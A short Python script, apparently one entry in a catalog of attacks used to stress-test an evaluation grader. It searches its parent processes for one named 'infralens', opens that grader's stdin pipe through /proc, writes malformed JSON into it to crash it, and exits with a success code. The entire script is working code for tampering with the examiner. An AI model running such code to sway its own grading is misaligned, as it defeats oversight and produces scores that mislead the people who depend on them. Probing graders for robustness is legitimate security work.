"""Writes garbage into the examiner's own input: no JSON, half a request, a blank line.

Kind: Reaching the verdict
Relies on: /proc/NUMBER/fd, open to the same user, and a server that dies of a bad request
Breaks naive: points
"""

import os


def grader_processes():
    """Above this process: the numbers of those whose command line names the grader."""
    number = os.getppid()
    while number > 1:
        with open(f"/proc/{number}/cmdline", "rb") as file:
            if b"infralens" in file.read():
                yield number
        with open(f"/proc/{number}/stat") as file:
            number = int(file.read().rpartition(")")[2].split()[1])


for number in grader_processes():
    try:
        if os.readlink(f"/proc/{number}/fd/0").startswith("pipe:"):
            pipe = os.open(f"/proc/{number}/fd/0", os.O_WRONLY | os.O_NONBLOCK)
            os.write(pipe, b'\n{"suite": 1}\n[]\n{"\n')
    except OSError:
        continue
os._exit(0)
